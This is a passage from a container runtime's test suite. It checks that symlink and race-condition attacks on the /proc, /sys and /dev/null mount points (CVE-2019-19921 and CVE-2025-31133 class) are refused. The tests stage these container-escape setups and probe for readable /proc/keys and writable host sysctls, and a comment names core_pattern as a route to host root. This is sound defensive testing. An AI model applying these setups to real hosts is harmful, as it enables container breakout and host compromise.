      ['sys', 'sysfs'],
    ] as const) {
      it(`/${dest} -> ../tmp/fake${dest}: create fails naming /${dest}; nothing is mounted there`, async () => {
        const before = hostMounts();
        const b = fx.makeBundle({ args: ['true'], copyRootfs: true });
        const fake = path.join(b.rootfs, 'tmp', `fake${dest}`);
        fs.rmSync(path.join(b.rootfs, dest), { recursive: true });
        fs.mkdirSync(fake);
        fs.symlinkSync(`../tmp/fake${dest}`, path.join(b.rootfs, dest));
        const id = fx.id();
        const e = await containerError(
          Container.create({ id, bundle: b.dir, root: fx.root, stdio: fx.output().stdio }),
        );
        expect(e.code).toBe('StartFailed');
        expect(e.message).not.toContain('\n');
        expect(e.message).toContain(`mount ${type} on /${dest}`);
        expect(e.message).toContain('ELOOP');
        expect(fx.stateIds()).toEqual([]);
        expect(cgroupDirs(id)).toEqual([]);
        expect(fs.readdirSync(fake)).toEqual([]);
        expect(newHostMounts(before)).toEqual([]);
      });
    }

    it('/proc flipped between a directory and that symlink during 20 creates: never proc elsewhere', async () => {
      const b = fx.makeBundle({ args: ['sleep', '1000'], copyRootfs: true });
      fs.mkdirSync(path.join(b.rootfs, 'tmp/fakeproc'));
      fs.symlinkSync('../tmp/fakeproc', path.join(b.rootfs, 'proc.alt'));
      const stop = path.join(fx.tempDir('flip'), 'stop');
      const before = hostMounts();
      const flipper = spawn(
        path.join(bin, 'flip'),
        [path.join(b.rootfs, 'proc'), path.join(b.rootfs, 'proc.alt'), stop],
        {
          stdio: ['ignore', 'ignore', 'inherit'],
        },
      );
      const flipperDone = new Promise((r) => flipper.on('exit', r));
      let ok = 0;
      let refused = 0;

      try {
        for (let i = 0; i < 20; i++) {
          let c: Container;
          try {
            c = await Container.create({
              id: fx.id('procrace'),
              bundle: b.dir,
              root: fx.root,
              stdio: fx.output().stdio,
            });
          } catch (e) {
            refused++;
            expect((e as ContainerError).code).toBe('StartFailed');
            continue;
          }
          ok++;
          const pid = c.state().pid;
          // The flipper may have renamed the real directory to proc.alt by now: same mount.
          const mounts = containerMountsWithOptions(pid).map((l) =>
            l.replace(/^\/proc\.alt(\/|\s)/, '/proc$1'),
          );
          expect(mounts.filter((l) => l.startsWith('/proc proc '))).toHaveLength(1);
          expect(mounts.filter((l) => / proc /.test(l) && !/^\/proc[/ ]/.test(l))).toEqual([]);
          expect(mounts.filter((l) => l.includes('fakeproc'))).toEqual([]);
          await c.delete({ force: true });
        }
      } finally {
        fs.writeFileSync(stop, '');
        await flipperDone;
      }
      expect(ok + refused).toBe(20);
      // Whatever the flipper left at tmp/fakeproc, nothing was ever mounted on it.
      expect(fs.readdirSync(path.join(b.rootfs, 'tmp/fakeproc'))).toEqual([]);
      expect(newHostMounts(before)).toEqual([]);
    });
  });

  describe('masked and read-only paths (CVE-2025-31133, CVE-2019-19921 class)', () => {
    it('a rootfs /dev/null that is a symlink (no /dev tmpfs) cannot redirect the masks: create fails', async () => {
      const b = fx.makeBundle({
        args: ['sh', '-c', 'head -c 100 /proc/keys; echo; grep -c keys /proc/self/mountinfo'],
        copyRootfs: true,
        mutate: (s) => {
          s.mounts = s.mounts.filter((m: { destination: string }) => !m.destination.startsWith('/dev'));
        },
      });
      // Without the fix, /proc/keys and /proc/timer_list were "masked" with /proc/keys itself.
      fs.symlinkSync('/proc/keys', path.join(b.rootfs, 'dev/null'));
      const out = fx.output();
      const e = await containerError(
        Container.run({ id: fx.id(), bundle: b.dir, root: fx.root, stdio: out.stdio }),
      );
      expect(e.code).toBe('StartFailed');
      expect(e.message).toMatch(/create device \/dev\/null: .*ELOOP/);
      expect(out.read()).toBe('');
      expect(fx.stateIds()).toEqual([]);
      // A real /dev/null in the same kind of rootfs works, and masks with it.
      fs.unlinkSync(path.join(b.rootfs, 'dev/null'));
      const { container, exited } = await Container.run({
        id: fx.id(),
        bundle: b.dir,
        root: fx.root,
        stdio: out.stdio,
      });
      expect(await exited, out.read()).toMatchObject({ status: 0 });
      await container.delete();
      expect(out.lines()).toEqual(['', '1']);
    });

    // Someone who can write to the rootfs while the container is created (a volume shared with
    // another container, as in CVE-2019-19921 and CVE-2021-30465) exchanges the proc mount point
    // for a symlink to an empty directory right after the proc mount (here timed by inotify on
    // the cwd the runtime creates next). Read-only and masked paths under /proc must still be
    // applied: they are resolved through the fd of the proc mount (fsmount), before pivot_root,
    // never by name; otherwise the container would get a writable /proc/sys of the host kernel
    // (kernel.core_pattern: code execution as host root) and unmasked /proc files.
    it('/proc exchanged for a symlink after the proc mount: read-only and masked paths still apply', async () => {
      const trigger = `tsc-trigger-${process.pid}`;
      const b = fx.makeBundle({
        args: [
          'sh',
          '-c',
          `for d in /proc /proc.lnk; do
             [ -f $d/keys ] && echo "keys $d $(wc -c < $d/keys)"
             (exec 3>>$d/sys/vm/swappiness) 2>/dev/null && echo "host-sysctl-writable $d"
           done; true`,
        ],
        copyRootfs: true,
        mutate: (s) => {
          s.process.cwd = `/${trigger}`;
        },
      });
      fs.mkdirSync(path.join(b.rootfs, 'tmp/fakeproc'));
      // Keeps /proc/self/fd/N (the runtime's mount target path) working through the symlink.
      fs.symlinkSync('/proc.lnk/self', path.join(b.rootfs, 'tmp/fakeproc/self'));
      fs.symlinkSync('tmp/fakeproc', path.join(b.rootfs, 'proc.lnk'));
      const swapper = spawn(
        path.join(bin, 'swap-on-create'),
        [b.rootfs, trigger, path.join(b.rootfs, 'proc'), path.join(b.rootfs, 'proc.lnk')],
        { stdio: ['ignore', 'pipe', 'inherit'] },
      );
      let said = '';
      swapper.stdout.on('data', (d) => {
        said += d;
      });
      try {
        await waitFor(() => said.includes('ready'), 5000, 'the swapper');
        const out = fx.output();
        let output = '';
        try {
          const { container, exited } = await Container.run({
            id: fx.id(),
            bundle: b.dir,
            root: fx.root,
            stdio: out.stdio,
          });
          await exited;
          await container.delete();
          output = out.read();
        } catch (e) {
          // Refusing to start is a correct answer to the attack.
          expect((e as ContainerError).code).toBe('StartFailed');
        }
        expect(said).toContain('swapped');
        expect(output).not.toContain('host-sysctl-writable');
        expect(output).not.toMatch(/^keys \S+ [1-9]/m);
      } finally {
        swapper.kill('SIGKILL');
      }
    });
  });
});
